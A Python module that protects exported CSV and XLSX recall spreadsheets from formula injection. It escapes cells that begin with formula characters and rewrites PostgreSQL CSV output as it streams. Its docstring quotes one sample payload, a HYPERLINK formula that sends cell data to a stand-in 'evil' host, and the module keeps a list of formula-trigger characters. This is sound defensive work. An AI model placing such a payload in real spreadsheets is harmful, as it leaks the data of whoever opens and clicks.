"""Cells of the spreadsheets we hand out (CSV and XLSX), safe to open in Excel or LibreOffice.

Lot codes, customer names, locations and EPCs come from outside (a partner's EPCIS capture,
an ERP sync, a PLC string). A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@`
as a formula (tab and CR are stripped by some importers, which then find a formula behind
them): `=HYPERLINK("http://evil/?"&A2,"Click")` in a customer name would ship our recall
list to anyone who opens it and clicks. So text is always written as text:

- CSV: text beginning with one of those characters gets a leading apostrophe (OWASP's
  advice for CSV injection): Excel shows the text as it was, without the apostrophe, and
  runs nothing. The apostrophe stays in the file: a program reading the CSV sees it.
- XLSX: text is a string cell, never a formula (openpyxl makes any string starting with `=`
  a formula and `#N/A` an error value), and a risky one is flagged `quotePrefix`, so that
  editing it in Excel does not turn it into a formula either. Its value is unchanged.

Numbers stay numbers (a negative quantity is `-5`, not text), as do dates and times: only
`str` values are ever neutralised, and the recall CSV that PostgreSQL formats is handled
column by column (`neutralised_copy_csv`), its numeric columns left alone.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator, Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """`value` as it is written to a CSV cell: text that would run as a formula behind an
    apostrophe; anything else (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def _control_escaped(text: str) -> str:
    # XLSX (XML 1.0) cannot hold most control characters; shown as \xNN rather than lost.
    escaped: str = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"\\x{ord(m.group()):02x}", text)
    return escaped


def xlsx_cell(ws: Any, value: Any) -> Any:
    """`value` for a write-only worksheet's `append`: text as a string cell (never a formula
    or an error value), a risky one flagged quotePrefix; other values as openpyxl types them
    (numbers, dates, times)."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, value=_control_escaped(value))
    cell.data_type = "s"
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    return [xlsx_cell(ws, v) for v in values]


_BOLD = Font(bold=True)


def xlsx_header(ws: Any, names: Iterable[str]) -> list[Any]:
    """A header row for a write-only worksheet's `append`: the names in bold, as text."""
    cells = []
    for name in names:
        cell = xlsx_cell(ws, name)
        cell.font = _BOLD
        cells.append(cell)
    return cells


def xlsx_sheet(wb: Any, name: str, header: Sequence[str], rows: Iterable[Iterable[Any]]) -> Any:
    """A sheet of the write-only workbook `wb`: its header frozen, in bold, an autofilter
    over the rows (each written by xlsx_row)."""
    ws = wb.create_sheet(name)
    ws.freeze_panes = "A2"
    ws.append(xlsx_header(ws, header))
    n = 1
    for row in rows:
        ws.append(xlsx_row(ws, row))
        n += 1
    ws.auto_filter.ref = f"A1:{get_column_letter(len(header))}{n}"
    return ws


# PostgreSQL's COPY ... (FORMAT csv) quotes a value that holds the delimiter, a quote or a line
# break and doubles the quotes inside it; a value it leaves bare never holds a quote. So a
# line break ends a record exactly when the quotes before it are balanced.
_LINE_BREAK = re.compile(rb"\n")


def _complete_records(buffer: bytes) -> int:
    """The length of the leading part of `buffer` made of whole CSV records (0 if none)."""
    for match in reversed(list(_LINE_BREAK.finditer(buffer))):
        end = match.end()
        if buffer.count(b'"', 0, end) % 2 == 0:
            return end
    return 0


def _rewritten(records: bytes, numeric: frozenset[int]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for record in csv.reader(io.StringIO(records.decode("utf-8"), newline="")):
        writer.writerow([v if i in numeric else csv_cell(v) for i, v in enumerate(record)])
    return out.getvalue().encode("utf-8")


async def neutralised_copy_csv(
    blocks: AsyncIterator[bytes], columns: Sequence[str], numeric: Iterable[str]
) -> AsyncIterator[bytes]:
    """CSV that PostgreSQL formatted (`COPY ... TO STDOUT (FORMAT csv)`, `columns` in order),
    passed on block by block with its text cells neutralised; the `numeric` columns are left
    as the database wrote them. Blocks are cut at record boundaries, so memory holds at most
    one block and one record."""
    numbered = frozenset(columns.index(c) for c in numeric)
    pending = b""
    async for block in blocks:
        pending += block
        end = _complete_records(pending)
        if end:
            yield _rewritten(pending[:end], numbered)
            pending = pending[end:]
    if pending:
        yield _rewritten(pending, numbered)
